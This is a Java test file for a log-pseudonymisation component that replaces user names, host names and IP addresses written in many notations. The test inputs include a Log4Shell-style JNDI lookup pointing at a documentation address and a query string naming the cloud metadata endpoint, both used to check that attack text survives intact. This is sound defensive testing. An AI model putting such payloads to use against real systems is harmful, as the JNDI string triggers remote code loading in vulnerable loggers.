package io.patchwatch.streams.privacy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.entry;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.patchwatch.events.Asset;
import io.patchwatch.events.LogObserved;
import io.patchwatch.events.LogParsed;
import io.patchwatch.events.parsing.NetworkAddress;
import io.patchwatch.events.yaml.Secret;
import io.patchwatch.streams.sigma.match.Cidr;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.CharRange;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PseudonymsTest {

  private static final Secret KEY = Secret.of("0123456789abcdef0123456789abcdef");
  private static final Pseudonyms ALL =
      new PrivacySettings(KEY, true, true).pseudonyms().orElseThrow();
  private static final Cidr DOCUMENTATION = Objects.requireNonNull(Cidr.parse("2001:db8::/32"));
  private static final Cidr INSIDE = Objects.requireNonNull(Cidr.parse("fd00::/8"));

  private static LogParsed record(Map<String, Object> fields) {
    return new LogParsed(
        "id",
        Instant.EPOCH,
        Asset.of("chat-1"),
        "testchat",
        "file",
        new LogObserved.LogOrigin("file", "/var/log/chat.log", 0L),
        new TreeMap<>(fields));
  }

  private static Map<String, Object> hidden(Map<String, Object> fields) {
    return ALL.hide(record(fields)).fields();
  }

  private static String message(String text) {
    return String.valueOf(hidden(Map.of("message", text)).get("message"));
  }

  private static String user(String name) {
    return String.valueOf(hidden(Map.of("user.name", name)).get("user.name"));
  }

  private static String address(String ip) {
    return String.valueOf(hidden(Map.of("source.ip", ip)).get("source.ip"));
  }

  @Test
  void aUserIsTheSamePseudonymInItsFieldAndInEveryText() {
    Map<String, Object> hidden =
        hidden(
            Map.of(
                "user.name", "anna",
                "message", "anna failed; annabel and joanna did not. anna@example.org, (anna)",
                "url.path", "/users/anna/avatar"));

    String anna = user("anna");
    assertThat(anna).matches("user-[0-9a-f]{16}");
    assertThat(hidden)
        .contains(
            entry("user.name", anna),
            entry(
                "message",
                "%1$s failed; annabel and joanna did not. %1$s@example.org, (%1$s)"
                    .formatted(anna)),
            entry("url.path", "/users/" + anna + "/avatar"));
  }

  @Test
  void theLongestNameIsReplacedFirstAndItsLocalPartIsFoundAlone() {
    Map<String, Object> hidden =
        hidden(
            Map.of(
                "user.id", "@anna:example.org",
                "message", "@anna:example.org is anna",
                "url.path", "/profile/%40anna%3Aexample.org and %40anna%3aexample.org"));

    String id = String.valueOf(hidden.get("user.id"));
    assertThat(hidden.get("message")).isEqualTo(id + " is " + user("anna"));
    assertThat(hidden.get("url.path")).isEqualTo("/profile/" + id + " and " + id);
  }

  @Test
  void namesWithoutSpacesAroundThemAreFoundInChinese() {
    Map<String, Object> hidden = hidden(Map.of("user.name", "张三", "message", "用户张三登录失败"));
    assertThat(hidden.get("message")).isEqualTo("用户" + user("张三") + "登录失败");
  }

  @Test
  void wordsOfOursAndOfTheServerStayAlthoughAUserIsCalledSo() {
    Map<String, Object> hidden =
        hidden(
            Map.of(
                "user.name", "login",
                "event.action", "login",
                "log.logger", "auth.login",
                "service.version", "4.7.4.1",
                "message", "login of login"));

    assertThat(hidden)
        .contains(
            entry("event.action", "login"),
            entry("log.logger", "auth.login"),
            entry("service.version", "4.7.4.1"));
    assertThat(hidden.get("message")).isEqualTo(user("login") + " of " + user("login"));
  }

  @Test
  void smallNumbersAreReplacedInTheirFieldOnly() {
    Map<String, Object> hidden = hidden(Map.of("user.id", "200", "message", "status 200"));
    assertThat(hidden.get("message")).isEqualTo("status 200");
    assertThat(hidden.get("user.id")).isNotEqualTo("200");
  }

  @ParameterizedTest
  @ValueSource(strings = {"203.0.113.7", "8.8.8.8", "2001:470::1"})
  void addressesOfTheInternetStayAddressesOfNobody(String ip) {
    assertThat(DOCUMENTATION.contains(address(ip))).as(address(ip)).isTrue();
    assertThat(NetworkAddress.read(address(ip)).map(NetworkAddress::ip)).contains(address(ip));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "10.1.2.3",
        "172.31.0.1",
        "192.168.1.1",
        "100.64.0.9",
        "169.254.1.1",
        "fd12::1",
        "fe80::1"
      })
  void privateAddressesStayPrivate(String ip) {
    assertThat(INSIDE.contains(address(ip))).as(address(ip)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"127.0.0.1", "::1", "0.0.0.0", "::"})
  void loopbackIsNobodys(String ip) {
    assertThat(message("from " + ip + " to")).isEqualTo("from " + ip + " to");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          from 203.0.113.7                | from A
          from 203.0.113.7.               | from A.
          203.0.113.7:5222: gone          | A:5222: gone
          /203.0.113.7:5222               | /A:5222
          peer:203.0.113.7                | peer:A
          ip=203.0.113.7,port=1           | ip=A,port=1
          [::ffff:203.0.113.7]:5222       | [A]:5222
          ::FFFF:203.0.113.7 said         | A said
          203.000.113.007                 | A
          {203,0,113,7}                   | {A}
          {{203,0,113,7},5222}            | {{A},5222}
          7.static.203.0.113.7.isp.net    | 7.static.A.isp.net
          """)
  void anAddressIsFoundHoweverItIsWritten(String text, String hidden) {
    assertThat(message(text)).isEqualTo(hidden.replace("A", address("203.0.113.7")));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          [2001:470::1]:443               | [A]:443
          host:2001:470::1                | host:A
          2001:470::1: refused            | A: refused
          2001:0470:0:0:0:0:0:1           | A
          %5B2001:470::1%5D               | %5BA%5D
          fe 2001:470::1%eth0             | fe A%eth0
          {8193,1136,0,0,0,0,0,1}         | {A}
          """)
  void anIpv6AddressIsFoundHoweverItIsWritten(String text, String hidden) {
    assertThat(message(text)).isEqualTo(hidden.replace("A", address("2001:470::1")));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "12:34:56 it was",
        "std::string::size",
        "Foo::Bar",
        "1.2.3.4.5.6 is an OID",
        "v4.7.4.1",
        "1.2.3",
        "999.1.1.1",
        "aa:bb:cc:dd:ee:ff",
        "{2026,1,31}",
        "{{2026,1,31},{12,0,0}}",
        ":::",
        "::g"
      })
  void whatOnlyLooksLikeAnAddressStays(String text) {
    assertThat(message(text)).isEqualTo(text);
  }

  @Test
  void whereARequestWasToLeadStaysUnlessItIsTheClientItself() {
    String query =
        "url=http://169.254.169.254/&b=http://[::ffff:10.0.0.1]/&c=203.0.113.7&d=10.9.9.9";
    Map<String, Object> hidden = hidden(Map.of("source.ip", "10.9.9.9", "url.query", query));
    assertThat(hidden.get("url.query"))
        .isEqualTo(
            query
                .replace("203.0.113.7", address("203.0.113.7"))
                .replace("10.9.9.9", address("10.9.9.9")));
  }

  @Test
  void anAttackInThePlaceOfANameStaysButForItsAddress() {
    String attack = "${jndi:ldap://203.0.113.7/a}";
    assertThat(hidden(Map.of("user.name", attack)))
        .containsEntry("user.name", attack.replace("203.0.113.7", address("203.0.113.7")));
  }

  @Test
  void aHostNameInTheFieldOfAnAddressIsReplacedToo() {
    Map<String, Object> hidden =
        hidden(Map.of("source.address", "anna.example.net", "message", "from anna.example.net"));
    assertThat(hidden.get("source.address").toString()).matches("host-[0-9a-f]{16}");
    assertThat(hidden.get("message")).isEqualTo("from " + hidden.get("source.address"));
  }

  @Test
  void anotherKeyGivesOtherPseudonyms() {
    Pseudonyms other =
        new PrivacySettings(Secret.of("another key that has 32 characters"), true, true)
            .pseudonyms()
            .orElseThrow();
    LogParsed anna = record(Map.of("user.name", "anna", "source.ip", "203.0.113.7"));
    assertThat(other.hide(anna).field("user.name")).isNotEqualTo(user("anna"));
    assertThat(other.hide(anna).field("source.ip")).isNotEqualTo(address("203.0.113.7"));
  }

  @Test
  void oneOfTheTwoMayStay() {
    LogParsed anna =
        record(
            Map.of("user.name", "anna", "source.ip", "203.0.113.7", "message", "anna 203.0.113.7"));
    LogParsed users = new PrivacySettings(KEY, true, false).pseudonyms().orElseThrow().hide(anna);
    LogParsed ips = new PrivacySettings(KEY, false, true).pseudonyms().orElseThrow().hide(anna);
    assertThat(users.field("message")).isEqualTo(user("anna") + " 203.0.113.7");
    assertThat(users.field("source.ip")).isEqualTo("203.0.113.7");
    assertThat(ips.field("message")).isEqualTo("anna " + address("203.0.113.7"));
    assertThat(ips.field("user.name")).isEqualTo("anna");
  }

  @Test
  void withoutAKeyNothingIsReplaced() {
    assertThat(PrivacySettings.NONE.pseudonyms()).isEmpty();
  }

  @Test
  void aShortKeyIsRefusedWithTheRemedy() {
    assertThatThrownBy(() -> new PrivacySettings(Secret.of("short"), true, true))
        .hasMessageContaining("privacy.pseudonym_key is shorter than 32")
        .hasMessageContaining("openssl rand");
    assertThatThrownBy(() -> new PrivacySettings(KEY, false, false))
        .hasMessageContaining("both false");
  }

  @Property(tries = 2_000)
  void noDottedAddressIsLeftInAnyText(
      @ForAll @StringLength(max = 60) @CharRange(from = ' ', to = '~') String before,
      @ForAll byte a,
      @ForAll byte b) {
    String ip = "198.51." + (a & 0xff) + "." + (b & 0xff);
    String hidden = message(before + " " + ip + " " + before);
    assertThat(hidden).doesNotContain(" " + ip + " ").contains(" " + address(ip) + " ");
  }

  @Property(tries = 2_000)
  void everyTextIsTakenAndAllReplacedNamesAreGone(
      @ForAll @StringLength(min = 2, max = 12) @CharRange(from = 'a', to = 'c') String name,
      @ForAll @StringLength(max = 200) @CharRange(from = 'a', to = 'c') String text) {
    String spaced = text.replace("ca", " ");
    String hidden =
        String.valueOf(hidden(Map.of("user.name", name, "message", spaced)).get("message"));
    assertThat((" " + hidden + " ").replace(' ', '|')).doesNotContain("|" + name + "|");
  }

  @ParameterizedTest
  @ValueSource(strings = {"a ", "1:", "::", "1.1.", "{1,1,", "a", "@@", "1.1.1.1 "})
  void hostileTextTakesNoLonger(String piece) {
    String text = piece.repeat(4_096);
    Map<String, Object> fields =
        Map.of("message", text, "user.name", text.substring(0, 1_000), "user.id", "a a a a b");
    assertTimeoutPreemptively(
        Duration.ofSeconds(5),
        () -> {
          for (int i = 0; i < 20; i++) {
            hidden(fields);
          }
        });
  }
}
